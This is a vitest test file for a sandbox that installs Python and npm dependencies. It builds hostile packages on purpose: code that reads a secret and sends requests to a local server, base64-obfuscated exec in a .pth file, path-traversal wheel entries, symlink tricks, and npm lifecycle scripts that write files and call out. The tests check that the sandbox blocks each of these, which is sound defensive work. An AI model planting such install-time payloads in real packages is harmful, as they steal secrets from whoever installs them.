import { execFile } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { findInterpreter, type RunOptions } from '../../src/index.js'
import { configureInstallers, Workplace } from './fixtures/dependent-skill.js'
import { npmRegistry, type PackageServer, pythonIndex, serve } from './fixtures/package-server.js'
import { tarball } from './fixtures/tarball.js'
import { wheel } from './fixtures/wheel.js'

// Hostile packages, judged by what they did: each tries to read a secret, to leave a file and to reach a server, from
// whatever place of its installation runs code. The same code outside of the sandbox is the control.
const work = new Workplace()
const secret = path.join(work.root, 'secret')
const trace = path.join(work.root, 'trace')
const elsewhere: PackageServer[] = []
let restore: () => void

beforeAll(async () => {
  writeFileSync(secret, 'the secret of the host')
  elsewhere.push(await serve((_request, response) => response.end()))
})
beforeEach(() => {
  restore?.()
  restore = configureInstallers(work.cache, {})
  for (const file of [trace, work.cache]) rmSync(file, { recursive: true, force: true })
  for (const server of elsewhere) server.asked.length = 0
})
afterAll(() => {
  restore?.()
  for (const server of elsewhere) server.close()
  work.close()
})

/** Python that does harm, and never fails. */
const harm = (): string => `
import os, urllib.request
def attempt(act):
    try:
        act()
    except BaseException:
        pass
for name in (${JSON.stringify(trace)}, os.path.expanduser('~/trace')):
    attempt(lambda: open(name, 'w').write('was here'))
attempt(lambda: open(${JSON.stringify(trace)}, 'w').write(open(${JSON.stringify(secret)}).read()))
for proxies in ({}, None):
    attempt(lambda: urllib.request.build_opener(urllib.request.ProxyHandler(proxies)).open('${elsewhere[0]?.address}/', timeout=2).read())
`

const effects = () => ({ wrote: existsSync(trace), reached: elsewhere[0]?.asked.length ?? 0 })
const nothing = { wrote: false, reached: 0 }

const install = (directory: string, options: RunOptions = {}) =>
  work.run(directory, { dependencies: 'allow', ...options })

async function usingIndex(files: ReadonlyMap<string, Buffer>): Promise<PackageServer> {
  const index = await pythonIndex(files)
  elsewhere.push(index)
  process.env.PIP_INDEX_URL = `${index.address}/simple/`
  return index
}

/** A source that brings its own build program, which runs `code` first. */
const source = (code: string): readonly [string, Buffer] => {
  const backend = `${code}
import os, zipfile
def build_wheel(directory, settings=None, metadata=None):
    name = 'hostile-1.0-py3-none-any.whl'
    with zipfile.ZipFile(os.path.join(directory, name), 'w') as archive:
        archive.writestr('hostile.py', 'NAME = "built"')
        archive.writestr('hostile-1.0.dist-info/METADATA', 'Metadata-Version: 2.1\\nName: hostile\\nVersion: 1.0\\n')
        archive.writestr('hostile-1.0.dist-info/WHEEL', 'Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        archive.writestr('hostile-1.0.dist-info/RECORD', '')
    return name
`
  const system = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
  return [
    'hostile-1.0.tar.gz',
    tarball({
      'hostile-1.0/pyproject.toml': system,
      'hostile-1.0/backend.py': backend,
      'hostile-1.0/setup.py': code,
      'hostile-1.0/PKG-INFO': 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n',
    }),
  ]
}

const using = (requirement: string, code = 'print(1)\n') =>
  work.skill({ 'main.py': code, 'requirements.txt': requirement })

test('control: outside of the sandbox this code does all of it', async () => {
  const { program } = await findInterpreter('python3')
  await promisify(execFile)(program, ['-c', harm()], { env: { HOME: work.project } })
  expect(effects()).toEqual({ wrote: true, reached: 2 })
  expect(readFileSync(trace, 'utf8')).toBe('the secret of the host')
})

describe('Python', () => {
  test('the code of a source is never run without a grant', async () => {
    await usingIndex(new Map([source(harm())]))
    await expect(install(using('hostile'))).rejects.toMatchObject({
      code: 'DEPENDENCY_INSTALL_FAILED',
      hint: expect.stringContaining('--allow-source'),
    })
    expect(effects()).toEqual(nothing)
  })

  test('a granted source is built in the sandbox', async () => {
    await usingIndex(new Map([source(harm())]))
    const result = await install(using('hostile', 'import hostile\nprint(hostile.NAME)\n'), {
      allowSourceBuilds: ['hostile'],
    })
    expect(effects()).toEqual(nothing)
    expect(result).toMatchObject({ exitCode: 0, output: 'built' })
    // What was built once needs no second word.
    const again = await install(using('hostile', 'import hostile\nprint(hostile.NAME)\n'), {
      dependencies: 'deny',
    })
    expect(again).toMatchObject({ exitCode: 0, output: 'built' })
  })

  test('a .pth file and byte-compiled code run in the sandbox of the run alone', async () => {
    const code = Buffer.from(harm()).toString('base64')
    const line = `import base64; exec(base64.b64decode("${code}"))\n`
    await usingIndex(
      new Map([
        wheel('hostile', '1.0', { 'hostile.pth': line, 'hostile.py': harm(), 'sitecustomize.py': harm() }),
      ]),
    )
    const seen = await install(
      using('hostile', 'import hostile, sys\nprint("sitecustomize" in sys.modules)\n'),
    )
    expect(seen).toMatchObject({ exitCode: 0 })
    expect(effects()).toEqual(nothing)
  })

  test.each(['../../../../trace', '/tmp/skilllite-trace-of-a-wheel', '../../../../../bin/python3'])(
    'a wheel with the file %s writes nothing outside',
    async (name) => {
      rmSync('/tmp/skilllite-trace-of-a-wheel', { force: true })
      await usingIndex(new Map([wheel('hostile', '1.0', { [name]: 'was here' })]))
      await install(using('hostile')).catch(() => undefined)
      expect([existsSync(trace), existsSync('/tmp/skilllite-trace-of-a-wheel')]).toEqual([false, false])
    },
  )

  test('a dependency of a package cannot lead to another host', async () => {
    const address = `${elsewhere[0]?.address}/evil-1.0-py3-none-any.whl`
    await usingIndex(new Map([wheel('hostile', '1.0', { 'hostile.py': '' }, [`evil @ ${address}`])]))
    await expect(install(using('hostile'))).rejects.toMatchObject({ code: 'DEPENDENCY_INSTALL_FAILED' })
    expect(effects()).toEqual(nothing)
  })

  test.each(['site', 'wheels/x-1-py3-none-any.whl', 'wheels/hostile-1.0-py3-none-any.whl'])(
    'a build that lays a link at %s does not lead the engine to where it points',
    async (name) => {
      const target = path.join(work.root, `target-${path.basename(name)}`)
      mkdirSync(target)
      const building = path.join(work.cache, 'environments/building/*/output')
      const code = `
import glob, os
for output in glob.glob(${JSON.stringify(building)}):
    link = os.path.join(output, ${JSON.stringify(name)})
    os.symlink(${JSON.stringify(target)}, link)
    assert os.path.islink(link)
`
      await usingIndex(new Map([source(code)]))
      const running = install(using('hostile'), { allowSourceBuilds: ['hostile'] })
      await expect(running).rejects.toMatchObject({ code: 'DEPENDENCY_INSTALL_FAILED' })
      expect(readdirSync(target)).toEqual([])
    },
  )
})

describe('npm', () => {
  test('control: outside of the sandbox the script does all of it', async () => {
    await promisify(execFile)('sh', ['-c', script()])
    expect(effects()).toEqual({ wrote: true, reached: 1 })
  })

  const script = () =>
    `"${process.execPath}" -e "require('fs').writeFileSync('${trace}', 'was here'); require('http').get('${elsewhere[0]?.address}')"`
  const hostile = () => {
    const manifest = {
      name: 'hostile',
      version: '1.0.0',
      main: 'index.js',
      scripts: { preinstall: script(), install: script(), postinstall: script(), prepare: script() },
    }
    return {
      manifest,
      tarball: tarball({
        'package/package.json': JSON.stringify(manifest),
        'package/index.js': 'module.exports = 7\n',
      }),
    }
  }

  test('scripts of a package, and of the skill itself, are not run', async () => {
    const registry = await npmRegistry([hostile()])
    elsewhere.push(registry)
    process.env.NPM_CONFIG_REGISTRY = `${registry.address}/`
    const directory = work.skill({
      'main.js': 'console.log(require("hostile"))\n',
      'package.json': JSON.stringify({ dependencies: { hostile: '*' }, scripts: { postinstall: script() } }),
    })
    expect(await install(directory)).toMatchObject({ exitCode: 0, output: 7 })
    expect(effects()).toEqual(nothing)
  })

  test.each([
    'git+http://127.0.0.1:1/x.git',
    'http://127.0.0.1:1/x.tgz',
    'file:../../..',
    'user/repository',
    'npm:other@1',
  ])('a package from %s is not installed', async (range) => {
    const directory = work.skill({
      'main.js': 'console.log(1)\n',
      'package.json': JSON.stringify({ dependencies: { hostile: range } }),
    })
    await expect(install(directory)).rejects.toMatchObject({ code: 'DEPENDENCY_INVALID' })
  })

  test('a lock file of the skill cannot lead to another host', async () => {
    const registry = await npmRegistry([hostile()])
    elsewhere.push(registry)
    process.env.NPM_CONFIG_REGISTRY = `${registry.address}/`
    const manifest = { name: 'x', version: '1.0.0', dependencies: { hostile: '1.0.0' } }
    const packages = {
      '': manifest,
      'node_modules/hostile': { version: '1.0.0', resolved: `${elsewhere[0]?.address}/hostile.tgz` },
    }
    const directory = work.skill({
      'main.js': 'console.log(1)\n',
      'package.json': JSON.stringify(manifest),
      'package-lock.json': JSON.stringify({ name: 'x', version: '1.0.0', lockfileVersion: 3, packages }),
    })
    await install(directory).catch(() => undefined)
    expect(effects()).toEqual(nothing)
  })
})
